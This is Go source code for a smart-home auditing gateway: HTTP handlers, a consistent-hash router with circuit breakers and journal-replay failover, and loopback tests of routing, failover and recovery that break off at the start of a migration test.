func (g *gateway) handleStoreFindings(w http.ResponseWriter, r *http.Request) {
	var req api.FindingsRequest
	if v := r.URL.Query().Get("since"); v != "" {
		since, err := strconv.ParseUint(v, 10, 64)
		if err != nil {
			g.respond(w, nil, api.Errorf(api.CodeInvalidArgument, "bad since revision %q", v))
			return
		}
		req.Since = since
	}
	resp, aerr := g.rt.Findings(r.Context(), &req)
	g.respond(w, resp, aerr)
}

// handleMigrate is the planned-migration admin endpoint.
func (g *gateway) handleMigrate(w http.ResponseWriter, r *http.Request) {
	var req struct {
		Home string `json:"home"`
		To   string `json:"to"`
	}
	if !g.decode(w, r, &req) {
		return
	}
	if req.Home == "" || req.To == "" {
		g.respond(w, nil, api.Errorf(api.CodeInvalidArgument, "migrate needs home and to"))
		return
	}
	resp, aerr := g.rt.migrate(r.Context(), req.Home, req.To)
	g.respond(w, resp, aerr)
}

func (g *gateway) handleCluster(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, g.rt.status())
}

func (g *gateway) handleMetrics(w http.ResponseWriter, r *http.Request) {
	if r.URL.Query().Get("format") == "prometheus" {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		if err := g.obs.Registry.WritePrometheus(w); err != nil {
			log.Printf("homeguardgw: prometheus exposition: %v", err)
		}
		return
	}
	writeJSON(w, http.StatusOK, g.rt.status())
}

func (g *gateway) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	fmt.Fprintln(w, "ok")
}

// handleReadyz answers 200 while the gateway can route somewhere: a
// fleet with every node down has nowhere to send traffic, and load
// balancers should pull the gateway rather than let it shed 100%.
func (g *gateway) handleReadyz(w http.ResponseWriter, _ *http.Request) {
	if g.rt.tracker.UpCount() == 0 {
		http.Error(w, "no live nodes", http.StatusServiceUnavailable)
		return
	}
	fmt.Fprintln(w, "ok")
}

func (g *gateway) decode(w http.ResponseWriter, r *http.Request, into any) bool {
	if err := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxBodyBytes)).Decode(into); err != nil {
		g.respond(w, nil, api.Errorf(api.CodeInvalidArgument, "bad request body: %v", err))
		return false
	}
	return true
}

func (g *gateway) respond(w http.ResponseWriter, v any, aerr *api.Error) {
	if aerr != nil {
		writeJSON(w, aerr.Code.HTTPStatus(), map[string]any{"error": aerr})
		return
	}
	writeJSON(w, http.StatusOK, v)
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		log.Printf("homeguardgw: encode response: %v", err)
	}
}
