package main

import (
	"context"
	"errors"
	"fmt"
	"log"
	"sync"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/cluster"
	"homeguard/internal/obs"
	"homeguard/internal/rpc"
)

// storeKey is the ring key the store-auditor endpoints (SubmitApps,
// Findings) route under: the auditor is per-node state, so pinning the
// whole store feed to one consistent-hash owner keeps revisions
// monotonic from the client's point of view.
const storeKey = "@store"

// resyncTimeout bounds one journal replay onto a new owner. Replays are
// warm-cache work on the target (content-addressed extraction), so this
// is generous.
const resyncTimeout = 30 * time.Second

// router is the gateway's brain: it implements rpc.Backend — so the
// unmodified HGRPC server and the HTTP handlers in main.go both
// dispatch into it — and forwards every request to the owning node via
// pooled clients, with per-node circuit breakers, the cluster retry
// policy, and journal-based failover re-adoption.
//
// # Failover model
//
// The gateway journals every op it has ACKED, per home, in memory. A
// home's journal is the authoritative "what the client believes
// happened" record: when routing moves the home to a different node —
// its owner died, or a dead owner recovered — the journal is replayed
// onto the new target before the next op, tolerating ALREADY_EXISTS
// (records the target already has, from its own WAL or an earlier
// replay). Replay cost is bounded because extraction and pair verdicts
// are content-addressed: the survivor re-solves nothing it has seen.
// The journal lives for the gateway process; bounding it with
// checkpoint-aware truncation is future work, noted in homeguard.go.
type router struct {
	ring    *cluster.Ring
	tracker *cluster.Tracker
	pool    *cluster.Pool
	retry   *cluster.Retryer
	obs     *obs.Observer

	breakers map[string]*rpc.Breaker // node ID → per-node breaker

	retries    *obs.Counter
	failovers  *obs.Counter
	recoveries *obs.Counter
	resyncs    *obs.Counter
	resyncOps  *obs.Counter
	migrations *obs.Counter

	mu    sync.Mutex
	homes map[string]*homeState
	pins  map[string]string // home → node ID, set by planned migration
}

// homeState serializes one home's gateway-side lifecycle: ops, journal
// appends, and resyncs all run under its mutex — mirroring the per-home
// lock the daemons themselves take.
type homeState struct {
	mu     sync.Mutex
	ops    []journalOp
	synced string // node ID the journal is known to be applied on
}

// journalOp is one acked mutating operation, replayable verbatim.
type journalOp struct {
	method string
	req    any
}

type routerOptions struct {
	Ring      *cluster.Ring
	Obs       *obs.Observer
	FailAfter int
	Retry     cluster.RetryOptions
	Breaker   rpc.BreakerOptions
	Dial      func(addr string) (*rpc.Client, error)
}

func newRouter(o routerOptions) *router {
	if o.Obs == nil {
		o.Obs = obs.NewObserver()
	}
	r := &router{
		ring:     o.Ring,
		pool:     cluster.NewPool(cluster.PoolOptions{Dial: o.Dial}),
		retry:    cluster.NewRetryer(o.Retry),
		obs:      o.Obs,
		breakers: map[string]*rpc.Breaker{},
		homes:    map[string]*homeState{},
		pins:     map[string]string{},

		retries:    o.Obs.Registry.Counter("homeguard_cluster_retries_total", "Routed calls retried after a retryable failure."),
		failovers:  o.Obs.Registry.Counter("homeguard_cluster_failovers_total", "Node down transitions (heartbeat fail-after-K)."),
		recoveries: o.Obs.Registry.Counter("homeguard_cluster_recoveries_total", "Node up transitions (heartbeat recover-after-probe)."),
		resyncs:    o.Obs.Registry.Counter("homeguard_cluster_resyncs_total", "Home journals replayed onto a new owner."),
		resyncOps:  o.Obs.Registry.Counter("homeguard_cluster_resync_ops_total", "Journaled ops replayed during resyncs."),
		migrations: o.Obs.Registry.Counter("homeguard_cluster_migrations_total", "Planned home migrations completed."),
	}
	ids := make([]string, 0, r.ring.NumNodes())
	for _, n := range r.ring.Nodes() {
		ids = append(ids, n.ID)
		r.breakers[n.ID] = rpc.NewBreaker(o.Breaker)
	}
	r.tracker = cluster.NewTracker(ids, cluster.HealthOptions{
		FailAfter:    o.FailAfter,
		OnTransition: r.onTransition,
	})
	r.registerCollector()
	return r
}

func (r *router) registerCollector() {
	r.obs.Registry.RegisterCollector(func(e *obs.Emit) {
		e.Gauge("homeguard_cluster_ring_version",
			"Numeric hash of the consistent-hash ring version (changes iff membership changes).",
			float64(r.ring.VersionHash()))
		e.Gauge("homeguard_cluster_nodes_total", "Configured fleet members.", float64(r.ring.NumNodes()))
		e.Gauge("homeguard_cluster_nodes_up", "Fleet members currently passing heartbeats.", float64(r.tracker.UpCount()))
		for _, nh := range r.tracker.Snapshot() {
			up := 0.0
			if nh.Up {
				up = 1
			}
			e.Gauge("homeguard_cluster_node_up", "Per-node heartbeat verdict (1 = live).",
				up, obs.Label{Name: "node", Value: nh.ID})
		}
		for id, b := range r.breakers {
			open := 0.0
			switch b.State() {
			case rpc.BreakerOpen:
				open = 1
			case rpc.BreakerHalfOpen:
				open = 0.5
			}
			e.Gauge("homeguard_cluster_node_breaker_open", "Per-node breaker state (0 closed, 0.5 half-open, 1 open).",
				open, obs.Label{Name: "node", Value: id})
		}
		r.mu.Lock()
		nhomes := len(r.homes)
		r.mu.Unlock()
		e.Gauge("homeguard_cluster_journal_homes", "Homes with a failover journal on this gateway.", float64(nhomes))
	})
}

// onTransition is the heartbeat tracker's callback: count the flap and
// kick a background rebalance so affected homes re-adopt eagerly
// instead of on first touch.
func (r *router) onTransition(nodeID string, up bool) {
	if up {
		r.recoveries.Inc()
		log.Printf("homeguardgw: node %s recovered", nodeID)
	} else {
		r.failovers.Inc()
		log.Printf("homeguardgw: node %s declared down, failing its homes over", nodeID)
	}
	go r.rebalance()
}

// heartbeat probes every node once per interval until ctx ends. Probes
// bypass the breakers on purpose: health must keep being measured while
// a breaker is open, or a recovered node could never close it.
func (r *router) heartbeat(ctx context.Context, interval time.Duration) {
	t := time.NewTicker(interval)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
		}
		for _, n := range r.ring.Nodes() {
			r.probe(ctx, n, interval)
		}
	}
}

func (r *router) probe(ctx context.Context, n cluster.Node, interval time.Duration) {
	pctx, cancel := context.WithTimeout(ctx, interval)
	defer cancel()
	c, err := r.pool.Get(n.Addr)
	if err != nil {
		r.tracker.ReportFailure(n.ID, err)
		return
	}
	resp, err := c.Ping(pctx)
	if err != nil {
		r.pool.Discard(n.Addr, c)
		r.tracker.ReportFailure(n.ID, err)
		return
	}
	if resp.Node != "" && resp.Node != n.ID {
		// The address answers, but it is not who the ring says it is —
		// routing to it would scatter homes onto a stranger.
		r.tracker.ReportFailure(n.ID, fmt.Errorf("node identity mismatch: probed %s, got %q", n.ID, resp.Node))
		return
	}
	r.tracker.ReportSuccess(n.ID)
}

// route resolves a home's current target: its migration pin when that
// node is live, otherwise the first live ring owner clockwise from the
// home's point.
func (r *router) route(home string) (cluster.Node, *api.Error) {
	r.mu.Lock()
	pin := r.pins[home]
	r.mu.Unlock()
	if pin != "" && r.tracker.Up(pin) {
		if n, ok := r.ring.NodeByID(pin); ok {
			return n, nil
		}
	}
	n, ok := r.ring.OwnerExcluding(home, r.tracker.Down)
	if !ok {
		return cluster.Node{}, api.Errorf(api.CodeUnavailable, "cluster: no live nodes")
	}
	return n, nil
}

// homeFor returns (creating) the home's gateway-side state.
func (r *router) homeFor(home string) *homeState {
	r.mu.Lock()
	defer r.mu.Unlock()
	hs := r.homes[home]
	if hs == nil {
		hs = &homeState{}
		r.homes[home] = hs
	}
	return hs
}

// isTransport reports an UNAVAILABLE envelope — dial refused, conn
// lost, open breaker — the failures that indict the connection/node
// rather than the request.
func isTransport(err error) bool {
	var ae *api.Error
	return errors.As(err, &ae) && ae.Code == api.CodeUnavailable
}

// invoke runs one attempt against one node: breaker gate, pooled
// client, the call, then breaker and pool bookkeeping.
func (r *router) invoke(node cluster.Node, call func(c *rpc.Client) error) error {
	b := r.breakers[node.ID]
	if ok, retryAfter := b.Allow(); !ok {
		return &api.Error{
			Code:         api.CodeUnavailable,
			Message:      fmt.Sprintf("cluster: node %s breaker open", node.ID),
			RetryAfterMs: retryAfter.Milliseconds(),
		}
	}
	c, err := r.pool.Get(node.Addr)
	if err != nil {
		b.Failure()
		return err
	}
	err = call(c)
	switch {
	case isTransport(err):
		b.Failure()
		r.pool.Discard(node.Addr, c)
	case func() bool { var ae *api.Error; return errors.As(err, &ae) && ae.Code == api.CodeDeadlineExceeded }():
		// A timed-out node is a sick node; the connection itself is fine.
		b.Failure()
	default:
		b.Success()
	}
	return err
}

// do is the routed operation core: resolve the target, resync the
// home's journal if routing moved it, run the call, retry retryable
// failures per the cluster policy, and journal the op once acked.
// journalReq nil marks a read (nothing to journal; DEADLINE_EXCEEDED
// becomes retryable).
func (r *router) do(ctx context.Context, home, method string, journalReq any, call func(c *rpc.Client) error) *api.Error {
	hs := r.homeFor(home)
	hs.mu.Lock()
	defer hs.mu.Unlock()
	readOnly := journalReq == nil
	retries, err := r.retry.Do(ctx, readOnly, func(int) error {
		node, rerr := r.route(home)
		if rerr != nil {
			return rerr
		}
		if err := r.syncLocked(hs, home, node); err != nil {
			return err
		}
		return r.invoke(node, call)
	})
	r.retries.Add(uint64(retries))
	if err != nil {
		return api.FromErr(err)
	}
	if journalReq != nil {
		hs.ops = append(hs.ops, journalOp{method: method, req: journalReq})
	}
	return nil
}

// syncLocked makes node current for the home: when the journal was last
// applied elsewhere (failover, recovery snap-back, first contact), it
// replays every acked op in order. ALREADY_EXISTS answers are the
// target telling us it already has that record — its own WAL survived,
// or a previous partial replay got that far — and are skipped, which
// is what makes replay idempotent and restartable.
func (r *router) syncLocked(hs *homeState, home string, node cluster.Node) error {
	if hs.synced == node.ID {
		return nil
	}
	if len(hs.ops) == 0 {
		hs.synced = node.ID
		return nil
	}
	ctx, cancel := context.WithTimeout(context.Background(), resyncTimeout)
	defer cancel()
	for _, op := range hs.ops {
		err := r.invoke(node, func(c *rpc.Client) error { return replayOp(ctx, c, op) })
		if err != nil {
			var ae *api.Error
			if errors.As(err, &ae) && ae.Code == api.CodeAlreadyExists {
				continue
			}
			return fmt.Errorf("cluster: resync %s onto %s (%s): %w", home, node.ID, op.method, err)
		}
		r.resyncOps.Inc()
	}
	hs.synced = node.ID
	r.resyncs.Inc()
	log.Printf("homeguardgw: resynced home %s onto %s (%d journaled ops)", home, node.ID, len(hs.ops))
	return nil
}

// replayOp re-issues one journaled op verbatim.
func replayOp(ctx context.Context, c *rpc.Client, op journalOp) error {
	var err error
	switch req := op.req.(type) {
	case *api.InstallRequest:
		_, err = c.Install(ctx, req)
	case *api.InstallBatchRequest:
		_, err = c.InstallBatch(ctx, req)
	case *api.ReconfigureRequest:
		_, err = c.Reconfigure(ctx, req)
	case *api.AcceptRequest:
		_, err = c.Accept(ctx, req)
	case *api.SubmitAppsRequest:
		_, err = c.SubmitApps(ctx, req)
	case *api.AdoptHomeRequest:
		_, err = c.AdoptHome(ctx, req)
	default:
		err = fmt.Errorf("unreplayable journal op %s (%T)", op.method, op.req)
	}
	return err
}

// rebalance walks every journaled home after a health transition and
// resyncs the ones whose route moved, so failover re-adoption happens
// eagerly (bounded by the heartbeat window) instead of on first touch.
func (r *router) rebalance() {
	r.mu.Lock()
	names := make([]string, 0, len(r.homes))
	for h := range r.homes {
		names = append(names, h)
	}
	r.mu.Unlock()
	for _, home := range names {
		hs := r.homeFor(home)
		hs.mu.Lock()
		if node, rerr := r.route(home); rerr == nil && hs.synced != node.ID && len(hs.ops) > 0 {
			if err := r.syncLocked(hs, home, node); err != nil {
				log.Printf("homeguardgw: rebalance: %v", err)
			}
		}
		hs.mu.Unlock()
	}
}

// ---------- rpc.Backend ----------

func (r *router) Install(ctx context.Context, req *api.InstallRequest) (*api.InstallResponse, *api.Error) {
	var resp *api.InstallResponse
	aerr := r.do(ctx, req.Home, "Install", req, func(c *rpc.Client) error {
		var err error
		resp, err = c.Install(ctx, req)
		return err
	})
	return resp, aerr
}

func (r *router) InstallBatch(ctx context.Context, req *api.InstallBatchRequest) (*api.InstallBatchResponse, *api.Error) {
	var resp *api.InstallBatchResponse
	aerr := r.do(ctx, req.Home, "InstallBatch", req, func(c *rpc.Client) error {
		var err error
		resp, err = c.InstallBatch(ctx, req)
		return err
	})
	return resp, aerr
}

func (r *router) Reconfigure(ctx context.Context, req *api.ReconfigureRequest) (*api.ReconfigureResponse, *api.Error) {
	var resp *api.ReconfigureResponse
	aerr := r.do(ctx, req.Home, "Reconfigure", req, func(c *rpc.Client) error {
		var err error
		resp, err = c.Reconfigure(ctx, req)
		return err
	})
	return resp, aerr
}

func (r *router) Accept(ctx context.Context, req *api.AcceptRequest) (*api.AcceptResponse, *api.Error) {
	var resp *api.AcceptResponse
	aerr := r.do(ctx, req.Home, "Accept", req, func(c *rpc.Client) error {
		var err error
		resp, err = c.Accept(ctx, req)
		return err
	})
	return resp, aerr
}

func (r *router) Threats(ctx context.Context, req *api.ThreatsRequest) (*api.ThreatsResponse, *api.Error) {
	var resp *api.ThreatsResponse
	aerr := r.do(ctx, req.Home, "Threats", nil, func(c *rpc.Client) error {
		var err error
		resp, err = c.Threats(ctx, req)
		return err
	})
	return resp, aerr
}

func (r *router) Apps(ctx context.Context, home string) (*api.AppsResponse, *api.Error) {
	var resp *api.AppsResponse
	aerr := r.do(ctx, home, "Apps", nil, func(c *rpc.Client) error {
		var err error
		resp, err = c.Apps(ctx, home)
		return err
	})
	return resp, aerr
}

func (r *router) SubmitApps(ctx context.Context, req *api.SubmitAppsRequest) (*api.SubmitAppsResponse, *api.Error) {
	var resp *api.SubmitAppsResponse
	aerr := r.do(ctx, storeKey, "SubmitApps", req, func(c *rpc.Client) error {
		var err error
		resp, err = c.SubmitApps(ctx, req)
		return err
	})
	return resp, aerr
}

func (r *router) Findings(ctx context.Context, req *api.FindingsRequest) (*api.FindingsResponse, *api.Error) {
	var resp *api.FindingsResponse
	aerr := r.do(ctx, storeKey, "Findings", nil, func(c *rpc.Client) error {
		var err error
		resp, err = c.Findings(ctx, req)
		return err
	})
	return resp, aerr
}

// Ping answers for the gateway itself: callers probing the gateway get
// its identity and a journal-sized view of the fleet, not a forwarded
// node answer.
func (r *router) Ping(context.Context) (*api.PingResponse, *api.Error) {
	r.mu.Lock()
	n := len(r.homes)
	r.mu.Unlock()
	return &api.PingResponse{Node: "gateway", Homes: n}, nil
}

// MigrateHome forwards the detach to the home's current owner and
// hands the snapshot back to the caller; the home is no longer served
// by the cluster, so its journal and pin are dropped.
func (r *router) MigrateHome(ctx context.Context, req *api.MigrateHomeRequest) (*api.MigrateHomeResponse, *api.Error) {
	var resp *api.MigrateHomeResponse
	hs := r.homeFor(req.Home)
	hs.mu.Lock()
	defer hs.mu.Unlock()
	node, rerr := r.route(req.Home)
	if rerr != nil {
		return nil, rerr
	}
	if err := r.invoke(node, func(c *rpc.Client) error {
		var err error
		resp, err = c.MigrateHome(ctx, req)
		return err
	}); err != nil {
		return nil, api.FromErr(err)
	}
	hs.ops, hs.synced = nil, ""
	r.mu.Lock()
	delete(r.pins, req.Home)
	r.mu.Unlock()
	return resp, nil
}

// AdoptHome routes the import to the home's owner and journals it, so
// an adopted home enjoys the same failover re-adoption as a home built
// through the gateway op by op.
func (r *router) AdoptHome(ctx context.Context, req *api.AdoptHomeRequest) (*api.AdoptHomeResponse, *api.Error) {
	var resp *api.AdoptHomeResponse
	aerr := r.do(ctx, req.Home, "AdoptHome", req, func(c *rpc.Client) error {
		var err error
		resp, err = c.AdoptHome(ctx, req)
		return err
	})
	return resp, aerr
}

// BreakerState reports a NODE's breaker on the gateway (stages here are
// node IDs, not pipeline stages).
func (r *router) BreakerState(stage string) string {
	if b := r.breakers[stage]; b != nil {
		return b.State()
	}
	return ""
}

// migrate performs a planned migration: detach from the current owner,
// adopt on the named target, pin the home there, and rewrite the
// journal to the single adopt op (the snapshot subsumes the op
// history). On an adopt failure it puts the home back where it was.
func (r *router) migrate(ctx context.Context, home, targetID string) (*api.AdoptHomeResponse, *api.Error) {
	target, ok := r.ring.NodeByID(targetID)
	if !ok {
		return nil, api.Errorf(api.CodeInvalidArgument, "cluster: unknown target node %q", targetID)
	}
	if !r.tracker.Up(targetID) {
		return nil, api.Errorf(api.CodeUnavailable, "cluster: target node %s is down", targetID)
	}

	hs := r.homeFor(home)
	hs.mu.Lock()
	defer hs.mu.Unlock()

	source, rerr := r.route(home)
	if rerr != nil {
		return nil, rerr
	}
	if source.ID == targetID {
		return nil, api.Errorf(api.CodeFailedPrecondition, "cluster: home %s already lives on %s", home, targetID)
	}
	var exported *api.MigrateHomeResponse
	if err := r.invoke(source, func(c *rpc.Client) error {
		var err error
		exported, err = c.MigrateHome(ctx, &api.MigrateHomeRequest{Home: home})
		return err
	}); err != nil {
		return nil, api.FromErr(err)
	}
	adopt := &api.AdoptHomeRequest{Home: home, Snapshot: exported.Snapshot}
	var resp *api.AdoptHomeResponse
	if err := r.invoke(target, func(c *rpc.Client) error {
		var err error
		resp, err = c.AdoptHome(ctx, adopt)
		return err
	}); err != nil {
		// The home is detached but not adopted: put it back on the source
		// rather than leaving it nowhere.
		if rbErr := r.invoke(source, func(c *rpc.Client) error {
			_, e := c.AdoptHome(ctx, adopt)
			return e
		}); rbErr != nil {
			log.Printf("homeguardgw: migrate %s: adopt on %s failed (%v) AND rollback onto %s failed (%v)",
				home, targetID, err, source.ID, rbErr)
			return nil, api.Errorf(api.CodeInternal,
				"cluster: home %s detached but neither adopt nor rollback succeeded: %v", home, err)
		}
		return nil, api.FromErr(err)
	}
	// The snapshot subsumes the old op history: journal just the adopt,
	// so a later failover rebuilds the migrated state, then pin routing.
	hs.ops = []journalOp{{method: "AdoptHome", req: adopt}}
	hs.synced = targetID
	r.mu.Lock()
	r.pins[home] = targetID
	r.mu.Unlock()
	r.migrations.Inc()
	log.Printf("homeguardgw: migrated home %s from %s to %s (%d apps)", home, source.ID, targetID, resp.Apps)
	return resp, nil
}

// status is the /cluster admin view.
type clusterStatus struct {
	RingVersion string              `json:"ringVersion"`
	Nodes       []clusterNodeStatus `json:"nodes"`
	Homes       int                 `json:"journaledHomes"`
	Pins        map[string]string   `json:"pins,omitempty"`
}

type clusterNodeStatus struct {
	ID      string `json:"id"`
	Addr    string `json:"addr"`
	Up      bool   `json:"up"`
	Fails   int    `json:"consecutiveFails,omitempty"`
	LastErr string `json:"lastErr,omitempty"`
	Breaker string `json:"breaker"`
}

func (r *router) status() clusterStatus {
	st := clusterStatus{RingVersion: r.ring.Version(), Pins: map[string]string{}}
	health := map[string]cluster.NodeHealth{}
	for _, nh := range r.tracker.Snapshot() {
		health[nh.ID] = nh
	}
	for _, n := range r.ring.Nodes() {
		nh := health[n.ID]
		st.Nodes = append(st.Nodes, clusterNodeStatus{
			ID: n.ID, Addr: n.Addr, Up: nh.Up, Fails: nh.Fails, LastErr: nh.LastErr,
			Breaker: r.breakers[n.ID].State(),
		})
	}
	r.mu.Lock()
	st.Homes = len(r.homes)
	for h, n := range r.pins {
		st.Pins[h] = n
	}
	r.mu.Unlock()
	if len(st.Pins) == 0 {
		st.Pins = nil
	}
	return st
}

// close releases the pool.
func (r *router) close() { r.pool.Close() }
