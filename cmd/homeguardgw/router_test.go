package main

import (
	"context"
	"net"
	"testing"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/audit"
	"homeguard/internal/cluster"
	"homeguard/internal/fleet"
	"homeguard/internal/rpc"
)

// fleetNode is one in-process "daemon": a real fleet behind a real RPC
// edge on a loopback listener. kill() closes the edge like a crash;
// restart() brings a FRESH fleet up on the same address — a node that
// lost all in-memory state, the worst case journal replay must cover.
type fleetNode struct {
	t    *testing.T
	id   string
	addr string
	srv  *rpc.Server
}

func startNode(t *testing.T, id string) *fleetNode {
	t.Helper()
	n := &fleetNode{t: t, id: id}
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	n.addr = lis.Addr().String()
	n.serve(lis)
	return n
}

func (n *fleetNode) serve(lis net.Listener) {
	f := fleet.New(fleet.Options{Shards: 4})
	aud := audit.NewAuditor(audit.AuditorOptions{Extract: f.Cache()})
	n.srv = rpc.NewServer(rpc.NewService(f, rpc.ServiceOptions{NodeID: n.id, Auditor: aud}), rpc.ServerOptions{})
	srv := n.srv
	go srv.Serve(lis)
	n.t.Cleanup(func() { srv.Close() })
}

func (n *fleetNode) kill() { n.srv.Close() }

func (n *fleetNode) restart() {
	n.t.Helper()
	lis, err := net.Listen("tcp", n.addr)
	if err != nil {
		n.t.Fatalf("restart on %s: %v", n.addr, err)
	}
	n.serve(lis)
}

// dial connects straight to the node, bypassing the gateway, to check
// where state actually lives.
func (n *fleetNode) dial() *rpc.Client {
	n.t.Helper()
	c, err := rpc.Dial(n.addr)
	if err != nil {
		n.t.Fatalf("dial %s: %v", n.addr, err)
	}
	n.t.Cleanup(func() { c.Close() })
	return c
}

// newTestRouter wires a router over the given nodes with test-friendly
// knobs: fail-after 2, fast retries, generous breakers (breaker
// behavior has its own tests in internal/rpc).
func newTestRouter(t *testing.T, nodes ...*fleetNode) *router {
	t.Helper()
	members := make([]cluster.Node, 0, len(nodes))
	for _, n := range nodes {
		members = append(members, cluster.Node{ID: n.id, Addr: n.addr})
	}
	ring, err := cluster.NewRing(members, 0)
	if err != nil {
		t.Fatal(err)
	}
	r := newRouter(routerOptions{
		Ring:      ring,
		FailAfter: 2,
		Retry:     cluster.RetryOptions{Attempts: 3, BaseDelay: 5 * time.Millisecond, Budget: time.Second},
		Breaker:   rpc.BreakerOptions{Threshold: 100},
	})
	t.Cleanup(r.close)
	return r
}

// markDown drives the tracker past the fail-after threshold the way the
// heartbeat loop would, without waiting on timers.
func markDown(r *router, n *fleetNode) {
	for i := 0; i < 3 && r.tracker.Up(n.id); i++ {
		r.tracker.ReportFailure(n.id, context.DeadlineExceeded)
	}
}

func install(t *testing.T, r *router, home, corpus string) *api.InstallResponse {
	t.Helper()
	resp, aerr := r.Install(context.Background(), &api.InstallRequest{Home: home, Corpus: corpus})
	if aerr != nil {
		t.Fatalf("install %s/%s: %v", home, corpus, aerr)
	}
	return resp
}

// homeOwnedBy finds a home name the ring places on the wanted node.
func homeOwnedBy(t *testing.T, ring *cluster.Ring, nodeID string) string {
	t.Helper()
	for i := 0; i < 10000; i++ {
		h := "home-" + string(rune('a'+i%26)) + "-" + itoa(i)
		if ring.Owner(h).ID == nodeID {
			return h
		}
	}
	t.Fatalf("no home hashes onto %s", nodeID)
	return ""
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b [8]byte
	p := len(b)
	for i > 0 {
		p--
		b[p] = byte('0' + i%10)
		i /= 10
	}
	return string(b[p:])
}

// TestRouterRoutesByRing: the gateway sends each home to its ring
// owner — the app lands on that node and only that node.
func TestRouterRoutesByRing(t *testing.T) {
	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	homeA := homeOwnedBy(t, r.ring, "node-a")
	homeB := homeOwnedBy(t, r.ring, "node-b")

	install(t, r, homeA, "ComfortTV")
	install(t, r, homeB, "ColdDefender")

	ctx := context.Background()
	ca, cb := na.dial(), nb.dial()
	if resp, err := ca.Apps(ctx, homeA); err != nil || len(resp.Apps) != 1 {
		t.Fatalf("owner node-a does not hold %s: %v %v", homeA, resp, err)
	}
	if _, err := cb.Apps(ctx, homeA); err == nil {
		t.Fatalf("non-owner node-b holds %s", homeA)
	}
	if resp, err := cb.Apps(ctx, homeB); err != nil || len(resp.Apps) != 1 {
		t.Fatalf("owner node-b does not hold %s: %v %v", homeB, resp, err)
	}

	// Reads route the same way.
	thr, aerr := r.Threats(ctx, &api.ThreatsRequest{Home: homeA})
	if aerr != nil || thr.HomeID != homeA {
		t.Fatalf("threats via gateway: %v %v", thr, aerr)
	}
}

// TestRouterFailoverReplaysJournal is the headline guarantee in
// miniature: the owner dies, and every op the gateway ACKED is
// replayed onto the survivor before the home is served again — even
// though the survivor never saw the original traffic.
func TestRouterFailoverReplaysJournal(t *testing.T) {
	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	home := homeOwnedBy(t, r.ring, "node-a")

	install(t, r, home, "ComfortTV")
	install(t, r, home, "ColdDefender")
	if _, aerr := r.Accept(context.Background(), &api.AcceptRequest{Home: home, Threats: []int{0}}); aerr != nil {
		t.Fatalf("accept: %v", aerr)
	}

	na.kill()
	markDown(r, na)
	if r.tracker.Up("node-a") {
		t.Fatal("node-a still up after misses")
	}

	// The next touch must transparently rebuild the home on node-b.
	apps, aerr := r.Apps(context.Background(), home)
	if aerr != nil {
		t.Fatalf("apps after failover: %v", aerr)
	}
	if len(apps.Apps) != 2 {
		t.Fatalf("failover lost acked installs: %v", apps.Apps)
	}
	// And the state really lives on the survivor now.
	cb := nb.dial()
	direct, err := cb.Apps(context.Background(), home)
	if err != nil || len(direct.Apps) != 2 {
		t.Fatalf("survivor node-b state: %v %v", direct, err)
	}
	if got := r.resyncs.Value(); got < 1 {
		t.Fatalf("resyncs counter = %d, want >= 1", got)
	}
	if got := r.failovers.Value(); got != 1 {
		t.Fatalf("failovers counter = %d, want 1", got)
	}
}

// TestRouterRecoverySnapBack: when the dead owner comes back — with
// empty state, as after a crash without its WAL — routing snaps back to
// ring placement and the journal replays onto it.
func TestRouterRecoverySnapBack(t *testing.T) {
	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	home := homeOwnedBy(t, r.ring, "node-a")

	install(t, r, home, "ComfortTV")
	na.kill()
	markDown(r, na)
	install(t, r, home, "ColdDefender") // acked against the survivor

	na.restart() // fresh fleet, same address
	if recovered := r.tracker.ReportSuccess("node-a"); !recovered {
		t.Fatal("probe success did not recover node-a")
	}

	apps, aerr := r.Apps(context.Background(), home)
	if aerr != nil || len(apps.Apps) != 2 {
		t.Fatalf("apps after snap-back: %v %v", apps, aerr)
	}
	ca := na.dial()
	direct, err := ca.Apps(context.Background(), home)
	if err != nil || len(direct.Apps) != 2 {
		t.Fatalf("recovered owner state: %v %v", direct, err)
	}
	if got := r.recoveries.Value(); got != 1 {
		t.Fatalf("recoveries counter = %d, want 1", got)
	}
}

// TestRouterNoLiveNodes: with the whole fleet down the gateway sheds
// with UNAVAILABLE instead of hanging.
func TestRouterNoLiveNodes(t *testing.T) {
	na := startNode(t, "node-a")
	r := newTestRouter(t, na)
	na.kill()
	markDown(r, na)
	_, aerr := r.Install(context.Background(), &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"})
	if aerr == nil || aerr.Code != api.CodeUnavailable {
		t.Fatalf("err = %v, want UNAVAILABLE", aerr)
	}
}

// TestRouterStorePinned: the store endpoints ride one ring key, so
// submissions and the findings feed agree on an owner.
func TestRouterStorePinned(t *testing.T) {
	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	ctx := context.Background()
	sub, aerr := r.SubmitApps(ctx, &api.SubmitAppsRequest{
		Upserts: []api.StoreApp{{Name: "ComfortTV", Corpus: "ComfortTV"}},
	})
	if aerr != nil {
		t.Fatalf("submit: %v", aerr)
	}
	feed, aerr := r.Findings(ctx, &api.FindingsRequest{})
	if aerr != nil {
		t.Fatalf("findings: %v", aerr)
	}
	if feed.Rev < sub.Rev {
		t.Fatalf("findings rev %d behind submit rev %d: store ops split across nodes", feed.Rev, sub.Rev)
	}
}

// TestRouterMigrate: a planned migration moves the home, pins routing,
// and survives a later failover of the target through the rewritten
// journal.
func TestRouterMigrate(t *testing.T) {
